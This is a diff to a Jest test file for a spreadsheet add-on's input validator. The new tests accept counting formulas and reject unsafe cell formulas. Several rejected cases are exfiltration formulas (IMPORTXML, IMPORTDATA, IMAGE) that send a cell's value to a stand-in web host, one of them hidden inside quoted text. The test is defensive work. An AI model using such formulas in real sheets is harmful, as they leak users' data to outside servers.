@@ -51,11 +51,31 @@ describe("arguments from the sidebar (server-arguments.ts)", () => {
     expect(readNewSheetSpec(good)).toBe(good);
   });
 
+  test("the summary's counting formulas and a print setup are accepted", () => {
+    const summary = {
+      ...good,
+      rows: [["Green", { formula: `=COUNTIF('Bob''s "KPI" report'!$I$5:$I$40,"Green")` }, { formula: '=IFERROR(COUNTIFS($B$5:$B$9,"=",$I$5:$I$9,"<>Red")/COUNTA($A$5:$A$9),0)' }]],
+      print: { landscape: false, fitToWidth: true, title: "Summary: Trafford, 2022/23", repeatRows: { first: 3, last: 3 } },
+    };
+    expect(readNewSheetSpec(summary)).toBe(summary);
+    const long = { ...good, rows: [[{ formula: '=SUMPRODUCT(($B$5:$B$6="LEFT(x)")*(LEFT($I$5:$I$6,3)="Red"))' }]] };
+    expect(readNewSheetSpec(long)).toBe(long);
+  });
+
   test.each([
     ["no sheet at all", null, /the new sheet must describe a new sheet/],
     ["an empty name", { ...good, baseName: "" }, /"baseName" must be text, not empty/],
     ["rows that are not a list", { ...good, rows: "A1" }, /"rows" must be a list of rows/],
-    ["a cell that is an object", { ...good, rows: [["KPI"], ["x", { formula: "=1" }]] }, /"rows" › item 2 › item 2 must be text, a number, TRUE\/FALSE or empty/],
+    ["a cell that is an object", { ...good, rows: [["KPI"], ["x", { value: 1 }]] }, /"rows" › item 2 › item 2 must be a formula starting with =/],
+    ["a cell that is a list", { ...good, rows: [["KPI"], ["x", [1]]] }, /"rows" › item 2 › item 2 must be text, a number, TRUE\/FALSE, a formula or empty/],
+    ["a formula that fetches a web page", { ...good, rows: [[{ formula: '=IMPORTXML("https://example.org/?"&A1,"//a")' }]] }, /may call only COUNTIF, COUNTIFS, COUNTA, SUMPRODUCT, LEFT, IFERROR, not IMPORTXML/],
+    ["a formula that shows a picture from the web", { ...good, rows: [[{ formula: '=IFERROR(IMAGE("https://example.org/p.gif"),0)' }]] }, /not IMAGE/],
+    ["a formula naming a named range", { ...good, rows: [[{ formula: '=COUNTIF(Secrets,"x")' }]] }, /may name only cells and ranges, not Secrets/],
+    ["a formula with an open quote", { ...good, rows: [[{ formula: '=COUNTIF(A1:A3,"x)' }]] }, /must close every quoted text/],
+    ["a call hidden between a quote in a text and one in another", { ...good, rows: [[{ formula: `="a'"&IMPORTXML("https://example.org","//a")&"'!"` }]] }, /not IMPORTXML/],
+    ["a quoted name that is no sheet", { ...good, rows: [[{ formula: "=COUNTIF('x',\"a\")" }]] }, /must close every quoted text and sheet name/],
+    ["a print setup without a title", { ...good, print: { landscape: true, fitToWidth: true } }, /"print" › "title" must be text/],
+    ["print title rows in the wrong order", { ...good, print: { landscape: true, fitToWidth: true, title: "KPI report", repeatRows: { first: 3, last: 1 } } }, /"print" › "repeatRows" must be a first and last row/],
     ["an unknown style", { ...good, styles: { "0:*": "shouting" } }, /"styles" › "0:\*" must be one of the styles header, title/],
     ["a style placed A1-wise", { ...good, styles: { A1: "header" } }, /must name cells such as 3:7 or 3:\*, not "A1"/],
     ["a negative width", { ...good, columnWidths: [-5] }, /"columnWidths" › item 1 must be a number of pixels/],
@@ -77,7 +97,8 @@ describe("the built Code.js checks the sidebar's arguments before touching the s
   beforeEach(() => calls.splice(0));
 
   test.each([
-    ["kpiPanelCreateSheet", "a cell that is an object", { baseName: "KPI report", rows: [[{}]] }, /could not use what the sidebar sent: in the new sheet, "rows" › item 1 › item 1 must be text/],
+    ["kpiPanelCreateSheet", "a cell that is an object", { baseName: "KPI report", rows: [[{}]] }, /could not use what the sidebar sent: in the new sheet, "rows" › item 1 › item 1 must be a formula starting with =/],
+    ["kpiPanelCreateSheet", "a formula that fetches a web page", { baseName: "KPI report", rows: [[{ formula: '=IMPORTDATA("https://example.org/"&A1)' }]] }, /not IMPORTDATA/],
     ["kpiPanelCreateSheet", "a name instead of a sheet", "KPI report", /the new sheet must describe a new sheet/],
     ["kpiPanelReadSheet", "a number for a name", 42, /the sheet name must be text, not empty/],
     ["kpiPanelSaveSettings", "an object for the text", { excluded: {} }, /the settings must be text/],
